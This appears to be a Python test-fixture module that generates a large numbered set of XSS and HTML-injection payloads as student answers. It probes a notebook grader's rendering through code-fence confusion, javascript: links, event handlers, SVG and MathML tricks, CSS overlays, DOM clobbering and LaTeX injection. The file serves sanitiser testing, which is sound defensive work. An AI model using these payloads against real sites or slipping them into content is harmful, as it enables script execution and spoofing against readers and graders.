"""Written answers that attack who reads them: kinds that published lists collect.

`RUN` is a script's text, which tells the page that it ran; `OUT` an address elsewhere,
which nothing may ask for; `@@` the number of the answer. Each is a cell of its own, so
that no open fence of one hides another.
"""

from __future__ import annotations

import base64
import io
import re

OUT = "https://elsewhere.invalid/@@"
RUN = "ran(@@)"
IMG = f"<img src=x onerror={RUN}>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'
SVG_DATA = f"BASE64[{SVG}]"
HTML_DATA = f"BASE64[<script>{RUN}</script>]"

CODE = [  # where two parsers disagree on what is code
    f"\\`{IMG}\\`",
    f"`a\\`{IMG}`b`",
    f"`` ` ``{IMG}`` ` ``",
    f"`{IMG}``",
    f"``{IMG}`",
    f"`a\n\n{IMG}`",
    f"~~~\n`\n~~~\n\n{IMG}\n\n~~~\n`\n~~~",
    f"~~~ `\n~~~\n{IMG}\n`",
    f"> ```\n\n{IMG}\n\n```",
    f"- ```\n\n{IMG}\n\n  ```",
    f"``` `x`\n{IMG}\n```",
    f"    ```\n\n{IMG}\n\n    ```",
    f"   ```\ncode\n```\n{IMG}\n```",
    f"```html\n</code></pre>{IMG}\n```",
    f"```{IMG}\ncode\n```",
    f'```"onmouseover="{RUN}\ncode\n```',
    f"```mermaid\n{IMG}\n```",
    f"``` mermaid\n</pre>{IMG}\n```",
    f"$`$ {IMG} $`$",
    f"`$` {IMG} `$`",
    f"$${IMG}$$ `$$`",
    f'[a](b "`") {IMG} [c](d "`")',
    f"<a`>{IMG}<b`>",
    f"\\\\`{IMG}\\\\`",
    f"&#96;{IMG}&#96;",
]
LINKS = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](javascript&colon;{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{RUN})",
    f"[x](&#1;javascript:{RUN})",
    f"[x](java&NewLine;script&#58;{RUN})",
    f"[x](jav&Tab;ascript:{RUN})",
    f"[x](javascript://%0a{RUN})",
    f"[x]\n\n[x]: javascript:{RUN}",
    f"[x][y]\n\n[y]: <java&#9;script:{RUN}> 'title'",
    f"![x][y]\n\n[y]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f'<https://elsewhere.invalid/"onmouseover={RUN}>',
    f'https://elsewhere.invalid/"onmouseover="{RUN}',
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html;base64,{HTML_DATA})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](blob:https://elsewhere.invalid/{RUN})",
    "[x](file:///etc/passwd) [y](filesystem:https://x/)",
    "[x](//elsewhere.invalid/@@) [y](\\\\elsewhere.invalid) [z](/\\elsewhere.invalid)",
    "[x](evil.html) [y](../../api/grades) [z](?index=1)",
    f'[x](https://a.invalid "\\" onmouseover=\\"{RUN}")',
    f'[x](https://a.invalid\'onmouseover="{RUN}")',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href=" &#14; javascript:{RUN}">x</a>',
    f'<a href="javas\ncript:{RUN}">x</a>',
    f'<a href="https://a.invalid" ping="{OUT}" onclick="{RUN}" target="x" id="y">x</a>',
    f'<a xlink:href="javascript:{RUN}">x</a>',
    f'<area href="javascript:{RUN}"><map name="x"><area href="javascript:{RUN}"></map>',
]
PICTURES = [
    f"![x]({OUT})",
    "![x](//elsewhere.invalid/@@)",
    f"![x](data:image/svg+xml;base64,{SVG_DATA})",
    f"![x](data:text/html;base64,{HTML_DATA})",
    f"![x](javascript:{RUN})",
    f'![x" onerror="{RUN}](y)',
    f'![x](y "\\" onerror=\\"{RUN}")',
    "![x](attachment:missing.png)",
    "![x](attachment:drawing.svg)",
    "![x](attachment:page.png)",
    f'![$\\text{{" onerror={RUN} }}$](attachment:missing.png)',
    f"![{IMG}](y)",
    f'<img src="{OUT}" srcset="{OUT} 2x" lowsrc="{OUT}" dynsrc="{OUT}">',
    f'<img src="data:image/png;base64,AAAA" onerror="{RUN}">',
    f'<picture><source srcset="{OUT}"><img src=y onerror={RUN}></picture>',
    f'<video poster="{OUT}" src=y onerror="{RUN}"><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}" autoplay></audio><bgsound src="{OUT}">',
    f'<input type=image src=x onerror="{RUN}"><image src=x onerror="{RUN}">',
    f'<table background="{OUT}"><tr><td background="{OUT}">x</table>',
]
TAGS = [
    IMG,
    f"<script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT\t>",
    f'<script src="{OUT}"></script>',
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<body onload={RUN}><html onpageshow={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<b onfocus={RUN} tabindex=0 autofocus contenteditable>x</b>",
    f"<style>@keyframes a{{}}</style><p onanimationstart={RUN} style=animation:a>x</p>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<textarea autofocus onfocus={RUN}></textarea><keygen autofocus onfocus={RUN}>",
    f"<img/src='x'/onerror={RUN}>",
    f"<img src=x:x onerror\n=\n'{RUN}'",
    f"<img \x0csrc=x\x0conerror={RUN}>",
    f"<p/onclick={RUN}><x onclick={RUN}>x</x>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml ?><img src=x onerror={RUN}>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;",
]
SPACES = [  # other namespaces, and what changes when it is parsed again
    SVG,
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml;base64,{SVG_DATA}#x'></use></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    f"onerror={RUN}&gt;'>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}>"
    "</annotation-xml></math>",
    f"<math href='javascript:{RUN}'><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><maction actiontype='statusline#{OUT}' xlink:href='javascript:{RUN}'>x",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<table><td><svg><title><img src=x onerror={RUN}></title></svg>",
    f"<p id='</p><img src=x onerror={RUN}>'>x</p>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<title><p title='</title><img src=x onerror={RUN}>'></title><plaintext-x>",
]
PAGE = [  # what would change the page around
    "<style>@import url(https://elsewhere.invalid/@@); body{display:none}</style>",
    f"<link rel=stylesheet href='{OUT}'><link rel=prefetch href='{OUT}'>",
    f"<p style='background:url({OUT});position:fixed;inset:0;z-index:9999'>cover</p>",
    f"<p style='width:expression({RUN});-moz-binding:url({OUT})'>x</p>",
    f"<span style='position:fixed;inset:0;background:url({OUT})' id=why>cover</span>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<base href='https://elsewhere.invalid/'><base target=x>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe><frameset onload={RUN}>",
    f"<iframe src='{OUT}'></iframe><portal src='{OUT}'></portal>",
    f"<object data='data:text/html;base64,{HTML_DATA}'></object><embed src='{OUT}'>",
    f"<form action='{OUT}'><button formaction='javascript:{RUN}'>x</button></form>",
    f"<form id=formgrader action='javascript:{RUN}'><input type=submit value=x></form>",
    "<a id=base_url name=formgrader></a><p id=why>x</p><img name=cookie id=MathJax>",
    "<form name=body><input name=parentNode><input id=attributes></form>",
    "<p class='score mark-graded full-credit nbgrader_cell help'>x</p>",
    "<button class='btn full-credit'>x</button><dialog open>x</dialog>",
    "</div></div></body></html><div id=notebook>x</div>",
    "<label for=why>x</label><output name=base_url>x</output><slot name=x></slot>",
]
FORMULAS = [
    rf"$\href{{javascript:{RUN}}}{{x}}$",
    rf"$\text{{{IMG}}}$ and $$\text{{</mtext></math>{IMG}}}$$",
    rf"$\unicode{{x3c}}img src=x onerror={RUN}\unicode{{x3e}}$",
    rf"${IMG}$",
    rf"$\class{{x\" onmouseover=\"{RUN}}}{{y}}$",
    rf"$\style{{background:url({OUT})}}{{y}}$",
    rf"$\color{{red\" onmouseover=\"{RUN}}}{{y}}$",
    rf"$\includegraphics{{{OUT}}}$",
    rf"$\mathchoice{{{IMG}}}{{x}}{{x}}{{x}}$",
    rf"$$\begin{{array}}{{c\" onclick=\"{RUN}}}x\end{{array}}$$",
    rf"\begin{{align}}x{IMG}\end{{align}}",
    rf"$\text{{&lt;img src=x onerror={RUN}&gt;}}$",
    rf"$\text{{&#60;script&#62;{RUN}&#60;/script&#62;}}$",
    rf"$\frac{{{IMG}$",
    rf"[$\text{{a}}$](javascript:{RUN})",
    rf'<b title="$\text{{x}}$ onmouseover={RUN}">$x$</b>',
    rf'<span data-formula="0-0"></span><span data-formula="$x$ onclick={RUN}"></span>',
]
KINDS = {
    "code": CODE,
    "links": LINKS,
    "pictures": PICTURES,
    "tags": TAGS,
    "spaces": SPACES,
    "page": PAGE,
    "formulas": FORMULAS,
}
ANSWERS = [text for kind in KINDS.values() for text in kind]


def numbered(text: str, number: int) -> str:
    """An answer that says its number when it runs; its ends can be found."""
    text = text.replace("@@", str(number))
    text = re.sub(r"BASE64\[(.*?)\]", lambda found: in_base64(found[1]), text)
    return f"answer{number}begin\n\n{text}\n\nanswer{number}end"


def in_base64(text: str) -> str:
    """A text as a data: address has it."""
    return base64.b64encode(text.encode()).decode()


def picture() -> str:
    """A small PNG, in base64."""
    from PIL import Image

    file = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


def answers() -> list[str]:
    """All of them, numbered."""
    return [numbered(text, number) for number, text in enumerate(ANSWERS)]


ATTACHMENTS = {
    "good.png": {"image/png": picture()},
    "drawing.svg": {"image/svg+xml": in_base64(SVG)},
    "page.png": {"text/html": in_base64(SVG), "image/svg+xml": in_base64(SVG)},
}
CODE_CELL = """from IPython.display import HTML, Javascript, Markdown, SVG, display
print("<img src=x onerror='ran(9001)'>")
print("\\x1b]8;;javascript:ran(9002)\\x1b\\\\x\\x1b]8;;\\x1b\\\\ \\x1b[31;<b>1m")
display(HTML("<script>ran(9003)</script>"), Javascript("ran(9004)"))
display(Markdown("[x](javascript:ran(9005)) <img src=x onerror=ran(9006)>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='ran(9007)'/>"))
display({"text/plain": "<img src=x onerror=ran(9008)>"}, raw=True)
# </script><img src=x onerror=ran(9009)> </pre></div>
raise ValueError("<img src=x onerror=ran(9010)>")"""
